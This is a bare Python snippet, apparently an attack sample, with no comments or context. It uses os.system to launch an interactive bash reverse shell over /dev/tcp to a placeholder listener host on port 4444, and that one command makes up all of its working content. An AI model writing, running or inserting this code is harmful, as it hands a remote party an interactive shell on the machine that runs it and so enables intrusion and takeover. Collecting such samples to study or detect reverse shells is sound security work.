import os

os.system("bash -i >& /dev/tcp/listener.example.invalid/4444 0>&1")
